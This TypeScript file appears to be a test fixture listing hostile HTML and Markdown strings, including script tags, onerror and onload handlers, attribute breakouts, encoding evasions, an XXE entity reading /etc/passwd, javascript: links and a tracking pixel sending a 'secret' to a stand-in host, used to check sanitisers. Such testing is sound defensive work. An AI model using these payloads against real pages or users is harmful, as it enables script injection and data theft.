/** Texts that would be markup, in a page or in a document. What runs sets `window.owned`, or asks for something. */
import { type HostileText, named } from './named-texts.ts';

const HTML = named('HTML', {
  'a script': '<script>window.owned = 1; alert(1)</script>',
  'the end of the script that holds the data': '</script><script>window.owned = 2</script>',
  'the end of a script, misspelt': '</sCrIpT ><sCrIpT\n>window.owned = 3</script\t\n bar>',
  'a script in a comment that opens another': '<!--<script>window.owned = 4</script>',
  'comments that end oddly': '<!--><script>window.owned = 5</script>--> <!-- --!><b>',
  'a picture that fails': '<img src=x onerror="window.owned = 6">',
  'a picture that fails, without quotes or spaces': '<img/src=`x`/onerror=window.owned=7>',
  'an SVG that loads': '<svg onload="window.owned = 8"><script>window.owned = 9</script></svg>',
  'an SVG that links and animates':
    '<svg><a href="javascript:window.owned=10"><animate attributeName=href to=x></a></svg>',
  'MathML with a style': '<math><mtext><style><img src=x onerror="window.owned = 11"></style></mtext></math>',
  'out of all that could be around':
    '</article></textarea></title></style></noscript></template><img src=x onerror="window.owned = 12">',
  'out of a table and a list': '</td></tr></table></li></ul></details><svg onload=window.owned=13>',
  'out of an attribute, in double quotes':
    '" onmouseover="window.owned = 14" autofocus onfocus="window.owned = 15',
  'out of an attribute, in single quotes': "' onfocus='window.owned = 16' autofocus tabindex='0",
  'out of an attribute, by a backtick': '` onmouseover=`window.owned=17` ',
  'a frame with a document of its own': '<iframe srcdoc="<script>parent.owned = 18</script>"></iframe>',
  'a frame from elsewhere':
    '<iframe src="https://owned.invalid/"></iframe><object data="https://owned.invalid/"></object><embed src=x>',
  'a base for all links': '<base href="https://owned.invalid/">',
  'a page that goes elsewhere': '<meta http-equiv=refresh content="0;url=https://owned.invalid">',
  'a style from elsewhere':
    '<link rel=stylesheet href="https://owned.invalid/x.css"><style>@import "https://owned.invalid/y.css"; * { display: none }</style>',
  'a style with an address and an expression':
    '<div style="background:url(https://owned.invalid/z.png);width:expression(window.owned=19);position:fixed;inset:0">',
  'the end of a style': '</style><script>window.owned = 20</script>',
  'a form':
    '<form action="https://owned.invalid"><button formaction="javascript:window.owned=21">go</button><input autofocus onfocus=window.owned=22></form>',
  'names that stand before those of the page':
    '<a id=document name=getElementById></a><form id=seek><input name=value></form><img name=body>',
  entities:
    '&lt;script&gt;window.owned = 23&lt;/script&gt; &#60;img src=x onerror=&#119;indow.owned=24&#62; &amp;lt;',
  'entities without an end': '&#x3Cscript&#x3Ewindow.owned=25&#x3C/script &colon;&Tab;&NewLine;',
  'a CDATA section and a declaration':
    '<![CDATA[<script>window.owned = 26</script>]]> <!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]> <?xml-stylesheet href="https://owned.invalid"?>',
  'a tag that never ends': '<img src=x onerror=window.owned=27 title="',
  'a tag with a NUL in it':
    '<scr\u0000ipt>window.owned = 28</scr\u0000ipt><img src=x one\u0000rror=window.owned=29>',
  'a tag cut by a control that is removed': '<scr\u001b[mipt>window.owned = 30</scr\u0007ipt>',
  'angle brackets of another width':
    '\uff1cscript\uff1ewindow.owned = 31\uff1c/script\uff1e \u2039script\u203a',
  'UTF-7': '+ADw-script+AD4-window.owned = 32+ADw-/script+AD4-',
  'a custom element, a slot, a dialog':
    '<dialog open onclose=window.owned=33></dialog><details open ontoggle=window.owned=34><slot></slot></details>',
  media:
    '<video src=x onerror=window.owned=35></video><audio src=x onerror=window.owned=36></audio><source onerror=x>',
  'a popover and a marquee':
    '<marquee onstart=window.owned=37>x</marquee><div popover id=x ontoggle=window.owned=38>',
  'line separators in JSON': 'left \u2028window.owned = 39\u2029 </script> ]]>',
  'a string that ends': '\\\';window.owned=40;//\\";window.owned=41;//`;window.owned=42;//',
});

const MARKDOWN = named('Markdown', {
  'a link that runs script': '[go](javascript:window.owned=50) [go](JaVaScRiPt&colon;window.owned=51)',
  'a link with data': '[go](data:text/html;base64,PHNjcmlwdD4=) [go](vbscript:owned)',
  'a link by reference': '[go][x] [x]\n\n[x]: javascript:window.owned=52 "title"',
  'a picture from elsewhere': '![pixel](https://owned.invalid/pixel.png?q=secret)',
  'a picture by reference': '![pixel][p]\n\n[p]: https://owned.invalid/pixel.png',
  autolinks: '<https://owned.invalid/auto> https://owned.invalid/bare www.owned.invalid a@owned.invalid',
  'HTML in a line and as a block':
    'a <b onclick="window.owned=53">b</b>\n\n<div onclick="window.owned=54">\n\n**c**\n</div>',
  'a fence that ends early': '```\ncode\n```\n<script>window.owned = 55</script>\n# Not a title\n```',
  'fences of all lengths': '`````\n~~~\n```\n``````\n~~~~~~\nout',
  'a fence with an info line': '```"><script>window.owned=56</script>\ncode\n```',
  'a code span that ends early': '`a` ``<img src=x onerror=window.owned=57>`` ``` ` ```',
  'a table that breaks': '| a | b |\n|---|---|\n| c \\| d | e | f | g |\n|||||',
  'titles and lines': '# Title\nTitle\n=====\n## Another\n---\n***\nSetext\n---',
  'quotes, lists, tasks and notes': '> quote\n1. list\n- [x] task\n[^1]: note\n[^1]',
  'front matter': '---\nlayout: owned\n---\n+++\nowned = true\n+++',
  'mentions, numbers and signs':
    '@someone #1 :smile: $$x$$ \\(x\\) ~~a~~ ==b== ^c^ owner/repo#1 0123456789abcdef0123456789abcdef01234567',
  'an alert of GitHub': '> [!WARNING]\n> OWNED',
  'a diagram': '```mermaid\ngraph LR; a-->b; click a "javascript:window.owned=58"\n```',
  'a comment that hides the rest': '[//]: # (hidden)\n<!-- hidden\n\nrest of the document',
  'the end of details': '</summary></details>\n\n<details open>\n<summary>OWNED</summary>',
  'escapes and hard breaks': '\\*a\\* \\<b\\> \\` c  \nd\\\ne',
  'emphasis that never ends': '*'.repeat(500),
  'brackets that never end': '[![a]('.repeat(100),
  'quotes in quotes': `${'>'.repeat(300)} a`,
});

export const MARKUP: readonly HostileText[] = [...HTML, ...MARKDOWN];
